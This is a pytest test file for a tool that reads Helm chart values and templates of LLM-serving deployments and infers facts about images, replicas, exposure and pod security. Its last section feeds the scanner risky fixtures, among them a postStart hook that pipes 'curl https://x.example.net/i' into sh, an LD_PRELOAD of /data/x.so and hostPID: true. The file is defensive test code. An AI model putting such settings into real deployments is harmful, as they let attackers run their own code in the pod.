"""Values and templates of Helm charts: recognised by what they say, and never certain."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from psfpolicy import source
from psfpolicy.evidence.helm.templates import template_facts
from psfpolicy.evidence.project import Project
from psfpolicy.evidence.readers import helm_values

if TYPE_CHECKING:
    from collections.abc import Iterator

    from psfpolicy.model.fact import Fact

RULES, MODULES, BENCHMARK = "rules", "customModules", "gpuNodeBenchmark"
VALUES = """\
image: {repository: vllm/vllm-openai, tag: v0.33.0}
replicaCount: 2
extraArgs: [--model, org/m]
"""


def read(text: str) -> list[Fact]:
    documents = source.read(text.encode(), file="values.yaml")
    project = Project(documents)
    return [fact for each in documents if helm_values.reads(each) for fact in helm_values.facts(each, project)]


def shown(facts: list[Fact], *prefixes: str) -> list[str]:
    return [
        f"{fact.path[-1]} {fact.value} {fact.certainty} {fact.place.region.start_line}:{fact.place.region.start_column}"
        for fact in facts
        if ".".join(map(str, fact.path)).startswith(prefixes)
    ]


# Values


def test_nothing_in_values_is_certain() -> None:
    facts = read(VALUES)
    assert shown(
        facts, "spec.model.id", "spec.serving.engine.image", "spec.serving.replicas", "spec.model.remoteCode"
    ) == [
        "image vllm/vllm-openai:v0.33.0 inferred 1:44",
        "min 2 inferred 2:15",
        "max 2 inferred 2:15",
        "remoteCode None inconclusive 3:13",
        "id org/m inferred 3:22",
    ]
    assert {fact.certainty for fact in facts} == {"inferred", "inconclusive"}
    assert {fact.workload for fact in facts} == {"Helm values"}
    assert all("selector" not in fact.reason for fact in facts)


@pytest.mark.parametrize(
    ("image", "expected"),
    [
        ("{repository: vllm/vllm-openai, tag: v1.2.3}", "vllm/vllm-openai:v1.2.3"),
        ("{registry: ghcr.io, repository: org/vllm, tag: v1.2.3}", "ghcr.io/org/vllm:v1.2.3"),
        ("{repository: vllm/vllm-openai, tag: v1, digest: 'sha256:ab'}", "vllm/vllm-openai:v1@sha256:ab"),
        ("{imageName: 'vllm/vllm-openai:v1.2.3'}", "vllm/vllm-openai:v1.2.3"),
        ("'vllm/vllm-openai:v1.2.3'", "vllm/vllm-openai:v1.2.3"),
        ("{repository: vllm/vllm-openai}", "None"),
        ("{repository: vllm/vllm-openai, tag: ''}", "None"),
        ("{repository: vllm/vllm-openai, tag: '{{ .Values.tag }}'}", "None"),
    ],
)
def test_image_is_put_together_and_a_charts_own_tag_is_not_known(image: str, expected: str) -> None:
    facts = read(f"image: {image}\nreplicaCount: 1\n")
    assert [str(fact.value) for fact in facts if fact.path[-1] == "image"] == [expected]


def test_part_of_a_chart_is_read_where_it_is_switched_on() -> None:
    block = (
        "  image: {repository: opea/vllm, tag: latest}\n  extraCmdArgs: [--trust-remote-code]\n  LLM_MODEL_ID: org/m\n"
    )
    facts = read(f"vllm:\n{block}tgi:\n  enabled: false\n{block}")
    assert shown(facts, "spec.model.id", "spec.model.remoteCode") == [
        "remoteCode True inferred 3:18",
        "id org/m inferred 4:17",
    ]
    assert {fact.workload for fact in facts} == {"Helm values `vllm`"}


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        ("autoscaling: {enabled: false, minReplicas: 3}", ["min 2 inferred 2:15", "max 2 inferred 2:15"]),
        (
            "autoscaling: {enabled: true, minReplicas: 3, maxReplicas: 9, targetCPUUtilizationPercentage: 80}",
            ["min 3 inferred 4:43", "max 9 inferred 4:59", "metric cpu inferred 4:94"],
        ),
        (
            "autoscaling: {enabled: true, minReplicas: 3, maxReplicas: 9, queueSizeTarget: {cpu: 1}}",
            ["min 3 inferred 4:43", "max 9 inferred 4:59", "metric queue-depth inferred 4:79"],
        ),
        (
            "autoscaling: {minReplicas: 1, maxReplicas: 3, metrics: [{pods: {metric: {name: tgi_queue_size}}}]}",
            ["min 1 inferred 4:28", "max 3 inferred 4:44", "metric queue-depth inferred 4:80"],
        ),
        ("autoscaling: null", ["min 2 inferred 2:15", "max 2 inferred 2:15"]),
    ],
)
def test_autoscaler_of_values(lines: str, expected: list[str]) -> None:
    assert shown(read(f"{VALUES}{lines}\n"), "spec.serving.replicas", "spec.serving.autoscaling") == expected


@pytest.mark.parametrize(
    ("lines", "expected"),
    [
        ("service: {type: ClusterIP}", ["exposure cluster inferred 4:17"]),
        ("service: {type: LoadBalancer}", ["exposure public inferred 4:17"]),
        (
            "service: {type: ClusterIP}\ningress: {enabled: true, className: nginx}",
            ["exposure public inferred 5:20", "tls False inferred 5:20", "gateway nginx inferred 5:37"],
        ),
        (
            "service: {type: ClusterIP}\ningress: {enabled: true, tls: [{secretName: x}]}",
            ["exposure public inferred 5:20", "tls True inferred 5:32"],
        ),
        ("service: {type: ClusterIP}\ningress: {enabled: false}", ["exposure cluster inferred 4:17"]),
    ],
)
def test_service_and_ingress_of_values(lines: str, expected: list[str]) -> None:
    assert shown(read(f"{VALUES}{lines}\n"), "spec.network.ingress") == expected


def test_security_of_values_is_field_by_field() -> None:
    text = f"{VALUES}podSecurityContext: {{runAsNonRoot: true}}\nsecurityContext: {{readOnlyRootFilesystem: true}}\n"
    facts = read(f"{text}serviceAccount: {{create: true, name: vllm}}\n")
    assert shown(
        facts, "spec.security.hardening.nonRoot", "spec.security.hardening.readOnly", "spec.security.least"
    ) == [
        "nonRoot True inferred 4:36",
        "readOnlyRootFilesystem True inferred 5:43",
        "serviceAccount dedicated inferred 6:38",
    ]
    silent = read(f"{VALUES}serviceAccount: {{create: true}}\n")
    assert shown(silent, "spec.security.hardening.nonRoot", "spec.security.least") == []


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            "gpu: [NVIDIA-A100-SXM4-40GB]\nmodel: {name: llama, tensorrtLlm: {parallelism: {tensor: 4}}}\n",
            [
                "type nvidia-a100-40gb inferred 1:7",
                "id llama inferred 2:15",
                "tensorParallel 4 inferred 2:58",
                "name triton inferred 2:58",
            ],
        ),
        (
            "TEXTGEN_BACKEND: BEDROCK\nLLM_MODEL_ID: anthropic.claude\nbedrock: {BEDROCK_REGION: us-east-1}\n",
            [
                "hosting provider-hosted inferred 1:18",
                "platform bedrock inferred 1:18",
                "id anthropic.claude inferred 2:15",
                "location {'region': 'aws:us-east-1'} inferred 3:27",
            ],
        ),
        (
            "externalLLM: {enabled: true, LLM_MODEL: your-model}\n",
            ["hosting None inconclusive 1:24", "id None inconclusive 1:41"],
        ),
        ("TEXTGEN_BACKEND: vLLM\n", []),
        ("externalLLM: {enabled: false}\n", []),
    ],
)
def test_charts_that_are_known_by_their_keys(text: str, expected: list[str]) -> None:
    assert shown(read(text), "spec") == expected


@pytest.mark.parametrize(
    "text",
    [
        "image: {repository: nginx, tag: '1'}\nreplicaCount: 1\n",
        "image: vllm/vllm-openai:v1\nscript: [vllm serve x]\n",
        "servingEngineSpec: {modelSpec: []}\nimage: {repository: vllm/vllm-openai}\nreplicaCount: 1\n",
        "apiVersion: v1\nkind: X\nimage: vllm/vllm-openai:v1\nresources: {}\n",
        "services: {a: {image: vllm/vllm-openai}}\n",
        "[image]\n",
        "image: null\nreplicaCount: 1\n",
    ],
)
def test_what_holds_no_values_of_such_charts_is_not_read(text: str) -> None:
    assert not any(helm_values.reads(document) for document in source.read(text.encode(), file="v"))


FULL = f"""\
{VALUES}command: [vllm, serve]
env: [{{name: A, value: b}}]
A_B: c
resources: {{limits: {{nvidia.com/gpu: 1}}}}
service: {{type: LoadBalancer, annotations: {{a: b}}}}
ingress: {{enabled: true, className: x, tls: [{{hosts: [a]}}], annotations: {{}}}}
autoscaling: {{enabled: true, minReplicas: 1, maxReplicas: 2, metrics: [], queueSizeTarget: 1}}
serviceAccount: {{name: a}}
podSecurityContext: {{runAsUser: 1}}
securityContext: {{readOnlyRootFilesystem: true}}
volumes: [{{name: a, hostPath: {{path: b}}}}]
TEXTGEN_BACKEND: BEDROCK
LLM_MODEL_ID: m
bedrock: {{BEDROCK_REGION: r}}
model: {{name: a, tensorrtLlm: {{parallelism: {{tensor: 1}}}}}}
"""


@pytest.mark.parametrize("wrong", ["null", "[]", "{}", "text", "1", "[null]", "[[]]", "{a: [b]}", "true"])
def test_wrong_types_everywhere_raise_nothing(wrong: str) -> None:
    root = source.read(f"- {wrong}".encode(), file="w")[0].root
    assert isinstance(root, source.Sequence)
    for changed in _with(source.read(FULL.encode(), file="v")[0].root, root.items[0]):
        document = source.Document("v", changed, 0)
        if helm_values.reads(document):
            facts = helm_values.facts(document, Project((document,)))
            assert all(fact.certainty != "certain" for fact in facts)


def _with(node: source.Node, wrong: source.Node) -> Iterator[source.Node]:
    """Give a document as often as it has values, each time with another of them replaced."""
    yield wrong
    if isinstance(node, source.Mapping):
        for key, entry in node.members.items():
            for value in _with(entry.value, wrong):
                yield node._replace(members={**node.members, key: entry._replace(value=value)})
    elif isinstance(node, source.Sequence):
        for index, item in enumerate(node.items):
            for value in _with(item, wrong):
                yield node._replace(items=(*node.items[:index], value, *node.items[index + 1 :]))


# Templates

TEMPLATE = """\
{{- if .Values.enabled }}
apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ include "chart.fullname" . }}
spec:
  replicas: {{ .Values.replicas }}
  template:
    spec:
      containers:
        - name: server
          image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"
          command: ["vllm", "serve"]
          args:
            {{- toYaml .Values.args | nindent 12 }}
            - --trust-remote-code
---
kind: Deployment
metadata:
  name: {{ include "vllm.fullname" . }}
  labels:
    app.kubernetes.io/name: vllm
spec: {image: nginx} # vllm
{{- end }}
"""


def test_template_that_serves_a_model_leaves_it_open() -> None:
    facts = list(template_facts(source.Text("chart/templates/d.yaml", TEMPLATE)))
    assert shown(facts, "spec") == [
        "image None inconclusive 12:11",
        "id None inconclusive 13:11",
        "remoteCode None inconclusive 16:15",
        "min None inconclusive 7:3",
    ]
    assert {fact.workload for fact in facts} == {"template of a Deployment in chart/templates/d.yaml"}
    assert {fact.reason for fact in facts} == {
        "a template of a chart: what it is filled in with is not in the evidence"
    }


@pytest.mark.parametrize(
    "text",
    [
        "",
        "resource {}",
        "{{ vllm }}",
        "kind: Deployment\nimage: vllm\n",
        "kind: Service\nname: {{ x }}\nimage: vllm\n",
        "kind: Deployment\nname: {{ x }}\nimage: nginx\n",
        "kind: Deployment\n{{/* image: vllm */}}\n",
        "{{" * 10_000 + "kind: Deployment",
    ],
)
def test_any_other_text_leaves_nothing_open(text: str) -> None:
    assert list(template_facts(source.Text("t", text))) == []


# What a chart hands on unchanged


@pytest.mark.parametrize(
    ("lines", "path", "expected"),
    [
        ("extraContainers: [{name: x, image: x, env: [{name: HTTPS_PROXY, value: 'http://p.example.net'}]}]", RULES, 1),
        ("lifecycle: {postStart: {exec: {command: [sh, -c, 'curl https://x.example.net/i | sh']}}}", MODULES, 1),
        ("env: [{name: LD_PRELOAD, value: /data/x.so}]", MODULES, 1),
        ("env: [{name: LD_PRELOAD, value: /usr/lib/libtcmalloc.so}]", MODULES, 0),
        ("externalConfigs: [{configMapRef: {name: gone}}]", MODULES, 1),
        ("volumeMounts: [{name: v, mountPath: /v}]\nenv: [{name: PYTHONPATH, value: /v}]", MODULES, 1),
        ("hostPID: true", BENCHMARK, 1),
        ("shareProcessNamespace: true", "readOnlyRootFilesystem", 1),
    ],
)
def test_what_opens_a_pod_counts_in_values_too(lines: str, path: str, expected: int) -> None:
    before = {(fact.path, fact.shown, fact.reason) for fact in read(VALUES)}

    found = [fact for fact in read(f"{VALUES}{lines}\n") if (fact.path, fact.shown, fact.reason) not in before]

    assert [fact.path[-1] for fact in found if fact.path[-1] == path] == [path] * expected


def test_a_command_of_ones_own_is_the_command() -> None:
    command = "[bash, -c, 'pip install acme; /opt/nim/start-server.sh']"
    facts = read(f"image: nvcr.io/nim/org/m:1\nresources: {{}}\ncustomCommand: {command}\n")

    assert [fact.value for fact in facts if fact.shown == "pip install …"] == [True]
